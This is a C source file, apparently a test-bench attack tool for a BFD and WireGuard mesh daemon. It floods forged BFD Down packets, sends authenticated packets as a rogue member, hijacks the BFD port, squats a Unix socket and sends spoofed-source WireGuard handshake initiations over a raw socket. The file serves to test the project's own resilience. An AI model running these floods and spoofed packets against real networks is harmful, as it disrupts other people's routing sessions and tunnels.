/* SPDX-License-Identifier: MIT */
/*
 * What a local user without rights, or somebody on the way, may send, bind and hold; for
 * bench/attacks and the tests beside it. Each attack ends by itself after SECONDS.
 *
 *	attack bfd SOURCE TARGET DIAG POLL RATE SECONDS
 *		BFD in state Down from SOURCE, RATE a second, from a port of its own, as TTL 255
 *	attack member SOURCE TARGET KEY_FILE TARGET_KEY RATE SECONDS
 *		the same with Poll, authenticated by who holds the private key in KEY_FILE: what a
 *		member of the mesh gone mad sends
 *	attack steal ADDRESS DEVICE SECONDS
 *		binds the BFD port of ADDRESS beside whoever has it, and reads
 *	attack squat NAME SECONDS
 *		binds the abstract Unix socket NAME
 *	attack handshakes SOURCE:PORT TARGET:PORT KEY RATE SECONDS
 *		initiations towards the public KEY, with a right mac1 and nothing else right, in
 *		SOURCE's name (IPv4)
 *
 * It becomes nobody before anything else; only the last one takes its raw socket with it. It says
 * how much it did when it ends.
 */
#include "base/mem.h"
#include "base/prefix.h"
#include "daemon/session_keys.h"
#include "live/bfd_auth.h"
#include "wg/cookie.h"
#include <arpa/inet.h>
#include <errno.h>
#include <grp.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sodium.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define NOBODY 65534
#define BATCH 64
#define TTL 255
#define BFD_LEN 24

static int fail(const char *what)
{
	perror(what);
	return 1;
}

static bool become_nobody(void)
{
	return !setgroups(0, NULL) && !setresgid(NOBODY, NOBODY, NOBODY) &&
	       !setresuid(NOBODY, NOBODY, NOBODY);
}

static int64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * NS_PER_S + ts.tv_nsec;
}

/* --- pace ------------------------------------------------------------------------------------ */

struct messages {
	struct mmsghdr headers[BATCH];
	struct iovec parts[BATCH];
	void (*renew)(void *); /* before each batch, with data; NULL: nothing to do */
	void *data;
};

/* All to the same place; what each says stands in bytes, size apart. */
static void messages_set(struct messages *m, void *bytes, size_t size, sock_addr *to)
{
	memset(m, 0, sizeof(*m));
	for (unsigned i = 0; i < BATCH; i++) {
		m->parts[i] = (struct iovec){(uint8_t *)bytes + i * size, size};
		m->headers[i].msg_hdr = (struct msghdr){.msg_name = to,
			.msg_namelen = sock_addr_len(to),
			.msg_iov = &m->parts[i],
			.msg_iovlen = 1};
	}
}

/* At that rate until the time is over; what the kernel refuses counts as not sent. Returns how many
 * were. */
static uint64_t send_paced(int fd, struct messages *m, double rate, double seconds)
{
	int64_t start = now_ns(), end = start + (int64_t)(seconds * (double)NS_PER_S);
	uint64_t due, tried = 0, sent = 0;

	for (int64_t now = start; now < end; now = now_ns()) {
		due = (uint64_t)((double)(now - start) / (double)NS_PER_S * rate) + 1;
		while (tried < due) {
			unsigned n = due - tried < BATCH ? (unsigned)(due - tried) : BATCH;
			int r;

			if (m->renew)
				m->renew(m->data);
			r = sendmmsg(fd, m->headers, n, MSG_DONTWAIT);

			sent += r > 0 ? (unsigned)r : 0;
			tried += n;
			if (now_ns() >= end)
				break;
		}
		usleep(rate < 2000 ? 1000 : 200);
	}
	return sent;
}

static int tell(uint64_t n)
{
	printf("{\"sent\": %llu}\n", (unsigned long long)n);
	return 0;
}

/* --- the attacks ----------------------------------------------------------------------------- */

/* RFC 5880 section 4.1: Down, a second between packets, no idea of the other's discriminator. */
static void put_down(uint8_t out[static BFD_LEN], unsigned diag, bool poll)
{
	const uint8_t packet[BFD_LEN] = {(uint8_t)(1 << 5 | (diag & 31)),
		(uint8_t)(1 << 6 | (poll ? 1 << 5 : 0)), 3, BFD_LEN, [12] = 0, 0x0f, 0x42,
		0x40, [16] = 0, 0x0f, 0x42, 0x40};

	memcpy(out, packet, sizeof(packet));
	randombytes_buf(out + 4, 4);
	out[7] |= 1; /* not 0 */
}

static int set_ttl(int fd, int family)
{
	int ttl = TTL;

	return family == AF_INET
		       ? setsockopt(fd, IPPROTO_IP, IP_TTL, &ttl, sizeof(ttl))
		       : setsockopt(fd, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &ttl, sizeof(ttl));
}

static int bfd_socket(const ip_addr *source)
{
	sock_addr from = sock_addr_make(source, 0);
	int fd = socket(source->family, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || bind(fd, &from.sa, sock_addr_len(&from)) || set_ttl(fd, source->family))
		return -1;
	return fd;
}

static int attack_bfd(char **args)
{
	uint8_t bytes[BATCH][BFD_LEN];
	struct messages m;
	ip_addr source, target;
	sock_addr to;
	int fd;

	if (!ip_addr_parse(&source, args[0]) || !ip_addr_parse(&target, args[1]))
		return 2;
	if (!become_nobody())
		return fail("attack: nobody");
	to = sock_addr_make(&target, BFD_PORT);
	fd = bfd_socket(&source);
	if (fd < 0)
		return fail("attack: socket");
	put_down(bytes[0], (unsigned)atoi(args[2]), atoi(args[3]));
	for (unsigned i = 1; i < BATCH; i++)
		memcpy(bytes[i], bytes[0], BFD_LEN);
	messages_set(&m, bytes, BFD_LEN, &to);
	return tell(send_paced(fd, &m, atof(args[4]), atof(args[5])));
}

struct member {
	struct bfd_auth auth;
	uint8_t bytes[BATCH][BFD_PACKET_MAX];
};

static void seal_batch(void *member)
{
	struct member *m = member;
	struct bfd_packet p = {.state = BFD_DOWN,
		.diag = BFD_DIAG_TIME_EXPIRED,
		.poll = true,
		.detect_mult = 3,
		.my_discriminator = 12345,
		.desired_min_tx = 1000000,
		.required_min_rx = 1000000};

	for (unsigned i = 0; i < BATCH; i++)
		bfd_auth_seal(&m->auth, &p, m->bytes[i]);
}

/* As its own daemon makes them; the sequence is ahead of that one's for hours. */
static bool learn_keys(struct member *m, const char *file, const char *target)
{
	struct session_keys *k = session_keys_new();
	struct bfd_keys keys;
	wg_key private, public;
	bool ok = !wg_key_read_file(&private, file) && wg_key_from_base64(&public, target);

	if (ok) {
		session_keys_begin(k, &private);
		session_keys_get(k, &public, &keys);
		bfd_auth_init(&m->auth, &keys, (uint32_t)(time(NULL) + 36000) * BFD_AUTH_RATE);
	}
	session_keys_free(k);
	return ok;
}

static int attack_member(char **args)
{
	static struct member member;
	ip_addr source, target;
	struct messages m;
	sock_addr to;
	int fd;

	if (!ip_addr_parse(&source, args[0]) || !ip_addr_parse(&target, args[1]) ||
		!learn_keys(&member, args[2], args[3]))
		return 2;
	if (!become_nobody())
		return fail("attack: nobody");
	to = sock_addr_make(&target, BFD_PORT);
	fd = bfd_socket(&source);
	if (fd < 0)
		return fail("attack: socket");
	messages_set(&m, member.bytes, BFD_PACKET_MAX, &to);
	m.renew = seal_batch;
	m.data = &member;
	return tell(send_paced(fd, &m, atof(args[4]), atof(args[5])));
}

static int attack_steal(char **args)
{
	int64_t end = now_ns() + (int64_t)(atof(args[2]) * (double)NS_PER_S);
	struct pollfd in = {.events = POLLIN};
	uint8_t bytes[256];
	ip_addr addr;
	sock_addr at;
	uint64_t n = 0;
	int one = 1;

	if (!ip_addr_parse(&addr, args[0]))
		return 2;
	if (!become_nobody())
		return fail("attack: nobody");
	at = sock_addr_make(&addr, BFD_PORT);
	in.fd = socket(at.sa.sa_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (in.fd < 0 || setsockopt(in.fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
		setsockopt(in.fd, SOL_SOCKET, SO_BINDTODEVICE, args[1], (socklen_t)strlen(args[1])))
		return fail("attack: socket");
	if (bind(in.fd, &at.sa, sock_addr_len(&at))) {
		perror("attack: bind"); /* refused: so be it */
		return tell(0);
	}
	while (now_ns() < end)
		if (poll(&in, 1, 100) > 0 && recv(in.fd, bytes, sizeof(bytes), MSG_DONTWAIT) > 0)
			n++;
	return tell(n);
}

static int attack_squat(char **args)
{
	struct sockaddr_un at = {.sun_family = AF_UNIX};
	int n = snprintf(at.sun_path + 1, sizeof(at.sun_path) - 1, "%s", args[0]);
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (!become_nobody())
		return fail("attack: nobody");
	if (fd < 0 || bind(fd, (struct sockaddr *)&at,
			      (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + (size_t)n)))
		return fail("attack: bind");
	usleep((useconds_t)(atof(args[1]) * 1e6));
	return 0;
}

struct forged {
	struct iphdr ip;
	struct udphdr udp;
	struct wg_initiation initiation;
} __attribute__((packed));

static void forge(
	struct forged *f, const sock_addr *from, const sock_addr *to, struct cookie_maker *maker)
{
	struct wg_initiation m = {0};

	randombytes_buf(&m, sizeof(m));
	memset(&m, 0, 4);
	*(uint8_t *)&m = WG_INITIATION;
	cookie_add_macs(maker, &m, sizeof(m), (instant){0});
	*f = (struct forged){.initiation = m};
	f->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
	f->ip.tot_len = htons(sizeof(*f));
	f->ip.saddr = from->in4.sin_addr.s_addr;
	f->ip.daddr = to->in4.sin_addr.s_addr;
	f->udp.source = from->in4.sin_port;
	f->udp.dest = to->in4.sin_port;
	f->udp.len = htons(sizeof(*f) - sizeof(f->ip)); /* no checksum: IPv4 needs none */
}

static int attack_handshakes(char **args)
{
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	struct cookie_maker maker;
	struct forged *all;
	struct messages m;
	sock_addr from, to;
	wg_key key;
	int r;

	if (!sock_addr_parse(&from, args[0]) || !sock_addr_parse(&to, args[1]) ||
		from.sa.sa_family != AF_INET || to.sa.sa_family != AF_INET ||
		!wg_key_from_base64(&key, args[2]))
		return 2;
	if (fd < 0 || !become_nobody())
		return fail("attack: socket");
	cookie_maker_init(&maker, &key);
	all = mem_zalloc(BATCH, sizeof(*all));
	for (unsigned i = 0; i < BATCH; i++)
		forge(&all[i], &from, &to, &maker);
	messages_set(&m, all, sizeof(*all), &to);
	r = tell(send_paced(fd, &m, atof(args[3]), atof(args[4])));
	free(all);
	return r;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int n_args;
		int (*run)(char **args);
	} attacks[] = {
		{"bfd", 6, attack_bfd},
		{"member", 6, attack_member},
		{"steal", 3, attack_steal},
		{"squat", 2, attack_squat},
		{"handshakes", 5, attack_handshakes},
	};

	if (sodium_init() < 0)
		return 1;
	for (size_t i = 0; argc > 1 && i < ARRAY_SIZE(attacks); i++)
		if (!strcmp(argv[1], attacks[i].name) && argc == attacks[i].n_args + 2)
			return attacks[i].run(argv + 2);
	fprintf(stderr, "usage: see the head of attack.c\n");
	return 2;
}
